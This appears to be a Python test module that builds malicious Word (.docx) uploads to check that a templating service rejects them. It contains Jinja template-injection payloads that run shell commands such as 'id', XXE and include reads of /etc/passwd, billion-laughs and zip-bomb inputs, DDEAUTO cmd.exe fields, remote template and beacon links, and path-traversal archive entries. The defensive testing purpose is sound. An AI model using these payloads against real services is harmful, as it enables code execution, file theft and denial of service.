"""Hostile templates: each one kind of attack on a file that staff upload, made from a shipped template."""

import io
import re
import struct
import zipfile
from collections.abc import Callable

from tests.bulletin.templates import part_of, repacked, replaced, shipped

Attack = Callable[[], bytes]

_DOCUMENT, _RELS, _TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = b"wordprocessingml.document.main+xml"
MARK = "/tmp/written_by_a_template"  # noqa: S108 - where an attack would write; the tests look that nothing is there

EXPRESSIONS = {
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "self": "{{ self.__init__.__globals__ }}",
    "self without dunder": "{{ self }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('id') }}",
    "joiner": "{{ joiner() }}",
    "namespace": "{% set ns = namespace(x=1) %}{{ ns.x }}",
    "range": "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "mro by item": "{{ ''['__class__'] }}",
    "attr filter": "{{ title|attr('__class__') }}",
    "map filter": "{{ title_lines|map(attribute='__class__')|list }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(title) }}",
    "format filter": "{{ '%s'|format(title) }}",
    "string method": "{{ title.upper() }}",
    "list method": "{{ title_lines.append('x') }}",
    "dict method": "{{ dict(a=1) }}",
    "loop method": "{% for x in title_lines %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "loop internals": "{% for x in title_lines %}{{ loop._iterable }}{% endfor %}",
    "macro": "{% macro m() %}{{ caller }}{% endmacro %}{{ m.__globals__ }}",
    "recursive macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "call block": "{% call title() %}x{% endcall %}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os }}",
    "from": "{% from 'os' import system %}",
    "extends": "{% extends '/etc/passwd' %}",
    "block": "{% block x %}y{% endblock %}",
    "set": "{% set x = title %}{{ x }}",
    "set block": "{% set x %}<w:t/>{% endset %}{{ x }}",
    "with": "{% with x = title %}{{ x }}{% endwith %}",
    "autoescape off": "{% autoescape false %}{{ title }}{% endautoescape %}",
    "safe": "{{ title|safe }}",
    "filter block": "{% filter upper %}x{% endfilter %}",
    "recursive loop": "{% for x in title_lines recursive %}{{ loop(x) }}{% endfor %}",
    "memory by power": "{{ 'a' * 10**10 }}",
    "memory by multiplication": "{{ 'a' * 9999999999 }}",
    "memory by format": "{{ '%09999999999d' % 1 }}",
    "number without end": "{{ " + "9" * 6000 + " }}",
    "brackets without end": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
    "loops inside loops": "{% for a in title_lines %}" * 12 + "x" + "{% endfor %}" * 12,
    "saving by a picture": "{% for p in pictures %}{{ p.image.tpl.docx.save('" + MARK + "') }}{% endfor %}",
    "writing by a picture": "{% for p in pictures %}{{ p.image.tpl.write_xml('" + MARK + "') }}{% endfor %}",
    "picture internals": "{{ pictures[0].image.tpl }}",
    "undefined": "{{ config }}",
    "environment": "{{ environment.globals }}",
}
"""What is written between the braces; a letter has no pictures, so those two end at an unknown name there."""


def in_text(expression: str) -> bytes:
    """Return a letter with an expression in its text."""
    escaped = expression.replace("&", "&amp;").replace("<", "&lt;")
    return replaced("letter", _DOCUMENT, b"{{ recipients }}", b"{{ recipients }}" + escaped.encode())


def _in_part(part: str, old: bytes, expression: str) -> bytes:
    return replaced("letter", part, old, old + expression.encode())


def _in_company(expression: str) -> bytes:
    text = part_of(shipped("letter"), "docProps/app.xml").decode()
    filled = re.sub(r"/>\s*$", f"><Company>{expression}</Company></Properties>", text)
    assert filled != text
    return repacked(shipped("letter"), {"docProps/app.xml": filled.encode()})


def _in_new_part(kind: str, root: str) -> bytes:
    """Return a letter with a part of its own for notes or comments that holds an expression."""
    body = f"<w:p><w:r><w:t>{EXPRESSIONS['cycler']}</w:t></w:r></w:p>"
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    inner = f'<w:{root} w:id="9" w:author="a">{body}</w:{root}>'
    xml = f'<?xml version="1.0" encoding="UTF-8"?><w:{kind} {space}>{inner}</w:{kind}>'
    content = _related(f"{_OFFICE}/{kind}", f"{kind}.xml", is_external=False)
    override = (
        f'<Override PartName="/word/{kind}.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'wordprocessingml.{kind}+xml"/></Types>'
    )
    types = part_of(content, _TYPES).replace(b"</Types>", override.encode())
    return repacked(content, {f"word/{kind}.xml": xml.encode(), _TYPES: types})


def _related(kind: str, target: str, *, is_external: bool = True, parts: dict[str, bytes] | None = None) -> bytes:
    """Return a letter that refers to something."""
    mode = ' TargetMode="External"' if is_external else ""
    entry = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    content = shipped("letter")
    relations = part_of(content, _RELS).replace(b"</Relationships>", entry.encode())
    return repacked(content, {_RELS: relations, **(parts or {})})


def _with_markup(markup: str) -> bytes:
    """Return a letter with some WordprocessingML at the beginning of its text."""
    return replaced("letter", _DOCUMENT, b"<w:body>", b"<w:body>" + markup.encode())


def _field(code: str) -> bytes:
    """Return a letter with a field."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code.split("|"))
    return _with_markup(f"<w:p>{char.format('begin')}{runs}{char.format('separate')}{char.format('end')}</w:p>")


def _declared(declaration: str, used: str) -> bytes:
    text = part_of(shipped("letter"), _DOCUMENT).decode()
    head, _, body = text.partition("?>")
    body = body.replace("<w:body>", f"<w:body><w:p><w:r><w:t>{used}</w:t></w:r></w:p>", 1)
    return repacked(shipped("letter"), {_DOCUMENT: f"{head}?>{declaration}{body}".encode()})


def _in_utf_16() -> bytes:
    laughing = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    return repacked(shipped("letter"), {"word/settings.xml": laughing.encode("utf-16")})


def _bomb() -> bytes:
    return repacked(shipped("letter"), {f"word/media/image{n}.png": b"\0" * 19_000_000 for n in range(6)})


def _long_part() -> bytes:
    return repacked(shipped("letter"), {"customXml/item9.xml": b"<a>" + b" " * 21_000_000 + b"</a>"})


def _many() -> bytes:
    return repacked(shipped("letter"), {f"word/media/image{n}.png": b"x" for n in range(600)})


def _twice() -> bytes:
    written = io.BytesIO(shipped("letter"))
    with zipfile.ZipFile(written, "a") as package:
        package.writestr("WORD/document.xml", b"<a/>")
    return written.getvalue()


def _encrypted() -> bytes:
    """Return a package whose entries say that they are encrypted."""
    content = bytearray(shipped("letter"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        while place >= 0:
            flags = struct.unpack_from("<H", content, place + offset)[0]
            struct.pack_into("<H", content, place + offset, flags | 1)
            place = content.find(signature, place + 4)
    return bytes(content)


def _linked() -> bytes:
    written = io.BytesIO(shipped("letter"))
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(written, "a") as package:
        package.writestr(entry, "/etc/passwd")
    return written.getvalue()


def _empty_package() -> bytes:
    written = io.BytesIO()
    zipfile.ZipFile(written, "w").close()
    return written.getvalue()


def _typed(old: bytes, new: bytes) -> bytes:
    return replaced("letter", _TYPES, old, new)


def _added(name: str, content: bytes = b"x") -> bytes:
    return repacked(shipped("letter"), {name: content})


PLACES: dict[str, Attack] = {
    "in a header": lambda: _in_part("word/header_odd.xml", b"{{ page_mark }}", EXPRESSIONS["cycler"]),
    "in a footer": lambda: _in_part("word/footer_imprint_odd.xml", b"{{ printing_date }}", EXPRESSIONS["lipsum"]),
    "in footnotes": lambda: _in_new_part("footnotes", "footnote"),
    "in endnotes": lambda: _in_new_part("endnotes", "endnote"),
    "in comments": lambda: _in_new_part("comments", "comment"),
    "in core properties": lambda: _in_part("docProps/core.xml", b"{{ office_name }}", EXPRESSIONS["cycler"]),
    "in app properties": lambda: _in_company(EXPRESSIONS["cycler"]),
    "split over runs": lambda: _with_markup(
        "<w:p><w:r><w:t>{</w:t></w:r><w:r><w:t>{ cyc</w:t></w:r><w:r><w:t>ler.__init__ }}</w:t></w:r></w:p>"
    ),
    "in a deletion": lambda: _with_markup(
        '<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>{{ self.__init__ }}</w:delText></w:r></w:del></w:p>'
    ),
    "in an attribute": lambda: _with_markup(
        '<w:p><w:bookmarkStart w:id="7" w:name="{{ cycler.__init__ }}"/><w:bookmarkEnd w:id="7"/></w:p>'
    ),
}
"""Expressions elsewhere than in the text."""

PACKAGES: dict[str, Attack] = {
    "image from outside": lambda: _related(f"{_OFFICE}/image", "http://192.0.2.1/beacon.png"),
    "template from outside": lambda: _related(f"{_OFFICE}/attachedTemplate", "http://192.0.2.1/t.dotm"),
    "object from outside": lambda: _related(f"{_OFFICE}/oleObject", "http://192.0.2.1/o.bin"),
    "frame from outside": lambda: _related(f"{_OFFICE}/frame", "http://192.0.2.1/f.html"),
    "link to a file": lambda: _related(f"{_OFFICE}/hyperlink", "file:///etc/passwd"),
    "link to a share": lambda: _related(f"{_OFFICE}/hyperlink", "\\\\192.0.2.1\\share"),
    "link that runs": lambda: _related(f"{_OFFICE}/hyperlink", "javascript:alert(1)"),
    "altChunk": lambda: _with_markup('<w:altChunk xmlns:r="x" r:id="rId1"/>'),
    "altChunk part": lambda: _related(f"{_OFFICE}/aFChunk", "header_odd.xml", is_external=False),
    "subDoc": lambda: _with_markup('<w:p><w:subDoc xmlns:r="x" r:id="rId1"/></w:p>'),
    "embedded object": lambda: _with_markup("<w:p><w:r><w:object/></w:r></w:p>"),
    "control": lambda: _with_markup("<w:p><w:r><w:control/></w:r></w:p>"),
    "attached template in settings": lambda: replaced(
        "letter", "word/settings.xml", b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>'
    ),
    "mail merge": lambda: replaced("letter", "word/settings.xml", b"</w:settings>", b"<w:mailMerge/></w:settings>"),
    "picture by address": lambda: _with_markup(
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://192.0.2.1/a.png"/>'
        "</w:pict></w:r></w:p>"
    ),
    "reference to nothing": lambda: _related(f"{_OFFICE}/image", "../../../etc/passwd", is_external=False),
    "DDE": lambda: _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "DDE in pieces": lambda: _field(" D|DE|AUTO cmd "),
    "INCLUDETEXT": lambda: _field('INCLUDETEXT "http://192.0.2.1/x"'),
    "INCLUDEPICTURE": lambda: _field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\x.png"'),
    "MACROBUTTON": lambda: _field("MACROBUTTON Evil x"),
    "LINK": lambda: _field("LINK Excel.Sheet.8 c:\\\\x.xls"),
    "DATABASE": lambda: _field("DATABASE \\d x"),
    "HYPERLINK to a share": lambda: _field('HYPERLINK "\\\\\\\\192.0.2.1\\\\x"'),
    "field by a mark": lambda: _field("PAGE {{ title }}"),
    "simple field": lambda: _with_markup('<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r/></w:fldSimple></w:p>'),
    "macros in the contents": lambda: _typed(
        b"application/vnd.openxmlformats-officedocument." + _MAIN,
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "a template, not a document": lambda: _typed(_MAIN, b"wordprocessingml.template.main+xml"),
    "macro part": lambda: _added("word/vbaProject.bin"),
    "ActiveX part": lambda: _added("word/activeX/activeX1.bin"),
    "embedded sheet": lambda: _added("word/embeddings/sheet1.xlsx"),
    "program": lambda: _added("word/media/setup.exe"),
    "XXE": lambda: _declared('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "billion laughs": lambda: _declared(
        "<!DOCTYPE a [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
        + "]>",
        "&a9;",
    ),
    "DTD from outside": lambda: _declared('<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">', "x"),
    "DTD in UTF-16": _in_utf_16,
    "broken XML": lambda: _added("word/styles.xml", b"<w:styles"),
    "zip bomb": _bomb,
    "long part": _long_part,
    "many entries": _many,
    "path upwards": lambda: _added("../../evil.xml", b"<a/>"),
    "path from the root": lambda: _added("/etc/evil.xml", b"<a/>"),
    "path of Windows": lambda: _added("word\\..\\evil.xml", b"<a/>"),
    "drive": lambda: _added("C:/evil.xml", b"<a/>"),
    "two parts of a name": _twice,
    "encrypted entries": _encrypted,
    "encrypted file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
    "link of a file system": _linked,
    "no archive": lambda: b"This is not a Word file.",
    "empty file": lambda: b"",
    "empty archive": _empty_package,
    "cut": lambda: shipped("letter")[: len(shipped("letter")) // 2],
    "damaged": lambda: shipped("letter").replace(b"word/document.xml", b"word/documeNt.xml", 1),
    "no text": lambda: repacked(shipped("letter"), {_DOCUMENT: None}),
    "no contents": lambda: repacked(shipped("letter"), {_TYPES: None}),
    "too large": lambda: shipped("letter") + b"\0" * 10_000_000,
    "full-width braces": lambda: replaced("letter", _DOCUMENT, b"{{ recipients }}", "｛｛ recipients ｝｝".encode()),
    "mark that never ends": lambda: in_text("{{ recipients"),
    "loop that never ends": lambda: in_text("{% for x in title_lines %}"),
    "unknown filter": lambda: in_text("{{ title|nosuch }}"),
    "unknown name": lambda: in_text("{{ titel }}"),
    "mark over two paragraphs": lambda: in_text("{{ title</w:t></w:r></w:p><w:p><w:r><w:t> }}").replace(b"&lt;", b"<"),
}
"""What the package, its parts and its marks may not be."""
